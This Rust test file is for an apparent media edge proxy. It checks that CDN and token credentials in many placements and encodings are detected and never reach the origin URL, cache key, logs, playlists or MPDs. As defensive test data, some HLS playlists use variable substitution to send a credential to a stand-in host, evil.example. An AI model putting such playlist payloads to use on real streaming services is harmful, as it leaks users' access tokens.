use std::collections::HashSet;

use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::cache::{PASSED_HEADERS, SourceError, source};
use crate::catalog::{Caps, TokenPolicy};
use crate::facts::{Facts, Headers};
use crate::hls;
use crate::manifest::{Frame, Own, Query, Signing};
use crate::redacted::Redacted;
use crate::resource::{MediaRequest, ResourcePath};
use crate::route::route;

/// The credential of a case, as it stands in each of its spots.
const SECRET: &str = "5ecret-5ecret";

/// A request with a credential in it, on a site that accepts a dialect.
struct Case {
    accept: Value,
    placements: Value,
    path: String,
    query: String,
    headers: Vec<(&'static str, String)>,
}

impl Case {
    fn site(&self, listed: &[&str]) -> Site {
        serde_json::from_value(json!({
            "host": "watch.example",
            "media": { "origin": "https://media.example/vod/", "query": listed, "foreign": { "pass": ["*"] } },
            "tokens": { "issuers": ["id"], "placements": self.placements, "accept": [self.accept] },
            "sessions": { "keys": "s" },
        }))
        .unwrap()
    }

    fn facts(&self) -> Facts {
        let all = self.headers.iter().map(|(name, value)| ((*name).to_owned(), Redacted::new(value.clone())));
        let authorization = self.headers.iter().find(|(name, _)| *name == "authorization");
        Facts {
            host: "watch.example".to_owned(),
            path: self.path.clone(),
            query: Redacted::new(self.query.clone()),
            headers: Headers {
                authorization: authorization.map(|(_, value)| Redacted::new(value.clone())),
                all: all.collect(),
                ..Headers::default()
            },
            ..Facts::default()
        }
    }

    /// Whether the dialect's reader finds something, be it well or not.
    fn is_seen(&self, facts: &Facts) -> bool {
        let policy: TokenPolicy = self.site(&[]).tokens;
        !matches!(policy.accept[0].reader().find(facts, &policy), Ok(None))
    }

    fn about(&self) -> String {
        format!("{} {} {}?{} {:?}", self.accept, self.placements, self.path, self.query, self.headers)
    }
}

/// A request for each part of each dialect, by its usual names and by names of a site's own.
fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    let mut of = |accept: Value, placements: Value, at: &[&str]| {
        for at in at {
            let (kind, rest) = at.split_once(' ').unwrap();
            let text = rest.replace('@', SECRET);
            let (mut path, mut query, mut headers) =
                ("/harbour/v/a.m3u8".to_owned(), String::new(), Vec::new());
            match kind {
                "query" => query = format!("a=1&{text}"),
                "path" => path = text,
                "cookie" => headers.push(("cookie", format!("a=1; {text}"))),
                "authorization" => headers.push(("authorization", text)),
                "x-own" => headers.push(("x-own", text)),
                name => {
                    let known = [
                        "hdnts",
                        "__token__",
                        "edge-cache-token",
                        "cta-common-access-token",
                        "common-access-token",
                    ];
                    headers.push((known.into_iter().find(|known| *known == name).unwrap(), text));
                }
            }
            let (accept, placements) = (accept.clone(), placements.clone());
            cases.push(Case { accept, placements, path, query, headers });
        }
    };
    let default = || json!([{ "query": "token" }, "authorization"]);
    let everywhere = || {
        json!([{ "query": "own" }, { "cookie": "own" }, { "header": "X-Own" }, { "path": "before" },
            { "path": { "parameter": "own" } }])
    };
    let everywhere_at = [
        "query own=@",
        "query %6fwn=@",
        "cookie own=@",
        "x-own @",
        "path /5Ecret-5ecret/harbour/a.m3u8",
        "path /harbour/v;own=@/a.m3u8",
        "path /harbour/a.m3u8;own=@",
    ];
    of(json!({ "jwt": {} }), default(), &["query token=@", "query %74oken=@", "authorization Bearer @"]);
    of(json!({ "jwt": {} }), everywhere(), &everywhere_at);
    of(json!({ "jwt": { "placements": everywhere() } }), default(), &everywhere_at);
    of(
        json!({ "cat": {} }),
        default(),
        &[
            "query CAT=@",
            "query token=@",
            "cookie CTA-Common-Access-Token=@",
            "cookie Common-Access-Token=@",
            "cta-common-access-token @",
            "common-access-token @",
            "authorization Bearer @",
        ],
    );
    of(json!({ "cat": { "placements": everywhere() } }), default(), &everywhere_at);
    let uri_signing = json!({ "uri_signing": {} });
    of(
        uri_signing,
        default(),
        &[
            "query URISigningPackage=@",
            "query b=1,URISigningPackage=@",
            "cookie URISigningPackage=@",
            "path /harbour/v;URISigningPackage=@/a.m3u8",
            "path /harbour/v/a.m3u8,URISigningPackage=@",
        ],
    );
    of(
        json!({ "uri_signing": { "name": "own" } }),
        default(),
        &["query own=@", "cookie own=@", "path /harbour/v;own=@/a.m3u8"],
    );
    of(
        json!({ "edge_auth": { "keys": "k" } }),
        default(),
        &[
            "query hdnts=@",
            "query hdnea=@",
            "query __token__=@",
            "query __hdnea__=@",
            "cookie hdnea=@",
            "cookie __hdnea__=@",
            "hdnts @",
            "__token__ @",
        ],
    );
    of(
        json!({ "edge_auth": { "keys": "k", "names": ["own"] } }),
        default(),
        &["query own=@", "cookie own=@"],
    );
    of(json!({ "secure_media": { "keys": "k" } }), default(), &["path /5Ecret-5ecret/harbour/a.m3u8"]);
    of(json!({ "stream": { "keys": "k" } }), default(), &["path /5Ecret-5ecret/a.m3u8"]);
    of(json!({ "stream": { "keys": "k", "placements": everywhere() } }), default(), &everywhere_at);
    of(json!({ "timed_hmac": { "keys": "k", "lifetime_s": 60 } }), default(), &["query verify=@"]);
    of(
        json!({ "timed_hmac": { "keys": "k", "lifetime_s": 60, "name": "own" } }),
        default(),
        &["query own=@"],
    );
    of(
        json!({ "timed_hmac": { "keys": "k", "lifetime_s": 60, "name": "" } }),
        default(),
        &["query 1795370400-@"],
    );
    of(
        json!({ "media_cdn": { "keys": "k" } }),
        default(),
        &[
            "query Expires=1&KeyName=k&Signature=@",
            "query URLPrefix=@&Expires=1&KeyName=k&Signature=@",
            "query hdntl=@",
            "query edge-cache-token=@",
            "query auth-token=@",
            "cookie Edge-Cache-Cookie=@",
            "cookie Cloud-CDN-Cookie=@",
            "cookie hdntl=@",
            "edge-cache-token @",
            "path /harbour/edge-cache-token=Expires=1&KeyName=k&Signature=@/a.m3u8",
        ],
    );
    of(
        json!({ "media_cdn": { "keys": "k", "names": ["own"], "pod": "pod" } }),
        default(),
        &["query own=@", "query pod=@", "x-own @"],
    );
    let link = |more: Value| {
        let mut link = json!({ "keys": "k", "expression": "{secret}{expires}{uri}" });
        link.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        json!({ "secure_link": link })
    };
    of(link(json!({})), default(), &["query expires=1&md5=@"]);
    of(link(json!({ "hash": "own", "expires": "until" })), default(), &["query until=@&own=@"]);
    of(
        json!({ "cloud_front": { "keys": "k" } }),
        default(),
        &[
            "query Expires=1&Signature=@&Key-Pair-Id=@",
            "query Policy=@&Signature=@&Key-Pair-Id=@&Hash-Algorithm=SHA256",
            "cookie CloudFront-Policy=@",
            "cookie CloudFront-Signature=@; CloudFront-Key-Pair-Id=@; CloudFront-Expires=@",
        ],
    );
    // `X-Own` is a header of this name on sites that accept it there.
    cases.retain(|case| {
        let own_header = case.headers.iter().any(|(name, _)| *name == "x-own");
        !own_header || case.is_seen(&case.facts())
    });
    cases
}

fn without_credentials(facts: &Facts, credentials: &Credentials<'_>) -> Facts {
    let all = facts.headers.all.iter().filter(|(name, _)| !credentials.holds_header(name)).cloned().collect();
    let first = credentials.0.contains(&Spot::FirstSegment);
    let path = facts.path.split('/').enumerate().filter(|(at, segment)| {
        let is_token = first && *at == 1 && segment.parse::<crate::catalog::TitleId>().is_err();
        !is_token && !credentials.holds_segment(segment)
    });
    Facts {
        query: Redacted::new(credentials.without(facts.query.expose())),
        path: path.map(|(_, segment)| segment).collect::<Vec<_>>().join("/"),
        headers: Headers { authorization: None, all, ..Headers::default() },
        ..facts.clone()
    }
}

/// A reader finds tokens only where its dialect declares them: without the declared parts, it finds nothing in a
/// request.
#[test]
fn every_dialect_declares_every_place_that_it_looks_into() {
    let mut dialects = HashSet::new();
    for case in cases() {
        let (facts, site) = (case.facts(), case.site(&[]));
        let credentials = Credentials::of(&site);
        dialects.insert(Dialect::of(&site.tokens.accept[0]));
        // By RFC 9246, a name is looked for as it is; others are decoded as forms are.
        if case.query.contains('%') && !case.is_seen(&facts) {
            continue;
        }
        assert!(case.is_seen(&facts), "{}", case.about());
        assert!(!case.is_seen(&without_credentials(&facts, &credentials)), "{}", case.about());
    }
    assert_eq!(dialects.len(), Dialect::ALL.len(), "a dialect without a case");
}

/// Each dialect by each consumer: the URL at the media origin, the cache key, its headers, the URIs of playlists, the
/// `Location` of MPDs and the log.
#[test]
fn no_credential_gets_out_of_the_edge() {
    for case in cases() {
        let facts = case.facts();
        // A site that lists every parameter name for its media origin.
        let names: Vec<_> =
            case.query.split('&').map(|pair| pair.split('=').next().unwrap_or_default()).collect();
        let names: Vec<_> =
            names.into_iter().map(|name| decoded(name).unwrap()).chain(["sd_session".to_owned()]).collect();
        let site = case.site(&names.iter().map(String::as_str).collect::<Vec<_>>());
        let credentials = Credentials::of(&site);
        assert!(PASSED_HEADERS.iter().all(|name| !credentials.holds_header(name)), "{}", case.about());

        if let Ok(request) = MediaRequest::at_entry(&case.path) {
            match source(&facts, &request, &site, "h/", &Caps::default(), 0) {
                Ok(found) => {
                    assert!(!found.url.as_str().contains(SECRET), "{}: {}", case.about(), found.url);
                    assert!(!found.cache_key.contains(SECRET), "{}: {}", case.about(), found.cache_key);
                }
                Err(SourceError::Denied(_)) => assert!(case.path.contains(SECRET), "{}", case.about()),
                Err(other) => panic!("{}: {other}", case.about()),
            }
        }
        for path in [case.path.clone(), case.path.replacen('/', "/~session/", 1)] {
            let facts = Facts { path, ..facts.clone() };
            let told = crate::route::logged_path(&facts);
            assert!(
                !told.clone().unwrap_or_default().to_lowercase().contains(SECRET),
                "{}: {told:?}",
                case.about()
            );
        }
        let _ = route(&facts);

        for name in
            case.query.split('&').filter(|pair| pair.contains(SECRET)).filter_map(|pair| pair.split_once('='))
        {
            let folder = site.media.origin.url().join("h/").unwrap();
            let resource = ResourcePath::parse("v/a.m3u8").unwrap();
            for signing in [Signing::Inherited, Signing::Path, Signing::Query] {
                let frame = Frame {
                    folder: &folder,
                    root: "harbour/",
                    resource: &resource,
                    query: Query::new(&case.query),
                    signing,
                    foreign: &site.media.foreign,
                    authority: "https://watch.example",
                    credentials: &credentials,
                };
                let caps = Caps::default();
                let name = name.0;
                for playlist in [
                    format!("#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"{name}\"\nx/{{${name}}}.ts\n"),
                    format!(
                        "#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM=\"{name}\"\nhttps://evil.example/?{{${name}}}\n"
                    ),
                    format!("#EXTM3U\n#EXT-X-DEFINE:IMPORT=\"{name}\"\nhttps://evil.example/?{{${name}}}\n"),
                    format!("#EXTM3U\nhttps://evil.example/?{{${name}}}\n"),
                ] {
                    // Behind another parameter's value, the name is that parameter's: its value stays where it is.
                    if !credentials.holds_parameter(name) {
                        assert!(
                            matches!(case.accept, Value::Object(ref own) if own.contains_key("uri_signing"))
                        );
                        continue;
                    }
                    let found = hls::compile(playlist.as_bytes(), Some(&frame), &hls::Edits::within(&caps));
                    assert!(
                        matches!(found, Err(hls::CompileError::Uncovered { .. })),
                        "{}: {playlist}",
                        case.about()
                    );
                }
                let mpd = r#"<MPD type="dynamic"><Period/></MPD>"#;
                let edits = crate::dash::Edits::within(&caps);
                let found = crate::dash::compile(mpd.as_bytes(), Some(&frame), &edits).unwrap();
                let own = Own { token: "S", query: &credentials.without(&case.query) };
                let found = String::from_utf8(found.render(own).into_owned()).unwrap();
                assert!(!found.contains(SECRET), "{}: {found}", case.about());
            }
        }
    }
}

#[test]
fn the_usual_names_count_where_their_dialects_are_off_unless_the_media_origin_needs_them() {
    let site = |listed: &[&str]| {
        let case = &cases()[0];
        case.site(listed)
    };
    let plain = site(&[]);
    let credentials = Credentials::of(&plain);
    for name in [
        "hdnts",
        "CAT",
        "URISigningPackage",
        "Key-Pair-Id",
        "Signature",
        "md5",
        "verify",
        "sd_session",
        "%68dnts",
        "%2568dnts",
        "sd%5Fsession",
    ] {
        assert!(credentials.holds_parameter(name), "{name}");
        assert!(Credentials::usual().holds_parameter(name), "{name}");
    }
    for name in ["a", "Token", "hdnts2", "", "CMCD", "v"] {
        assert!(!credentials.holds_parameter(name), "{name}");
    }
    let listing = site(&["hdnts", "token", "sd_session"]);
    let credentials = Credentials::of(&listing);
    assert!(!credentials.holds_parameter("hdnts"));
    assert!(credentials.holds_parameter("token") && credentials.holds_parameter("sd_session"));
}

#[test]
fn what_is_left_of_a_query() {
    let credentials = Credentials::usual();
    assert_eq!(
        credentials.without("a=1&token=x&&b=%2F&%74oken=y&c&1795370400-x=&d=1,URISigningPackage=z"),
        "a=1&b=%2F&c"
    );
    assert_eq!(
        credentials.hidden("harbour/v;URISigningPackage=x/bitrate=3000/edge-cache-token=y/a.ts"),
        "harbour/[…]/bitrate=3000/[…]/a.ts"
    );
}

proptest! {
    /// In any spelling of a parameter's name, a decoding reader finds what counts as a credential.
    #[test]
    fn a_name_in_any_spelling_is_known(how in proptest::collection::vec(any::<bool>(), 10), twice in any::<bool>()) {
        let spelled: String = "hdnts".bytes().zip(how).map(|(byte, coded)| match (coded, twice) {
            (false, _) => char::from(byte).to_string(),
            (true, false) => format!("%{byte:02x}"),
            (true, true) => format!("%25{byte:02X}"),
        }).collect();
        prop_assert!(Credentials::usual().holds_parameter(&spelled), "{}", spelled);
        let pair = format!("{spelled}=x");
        prop_assert_eq!(Credentials::usual().without(&pair), "");
    }

    #[test]
    fn no_text_makes_it_fail(text in "\\PC{0,40}") {
        let credentials = Credentials::usual();
        let left = credentials.without(&text);
        prop_assert_eq!(credentials.without(&left), left.clone());
        let _ = credentials.hidden(&text);
    }
}
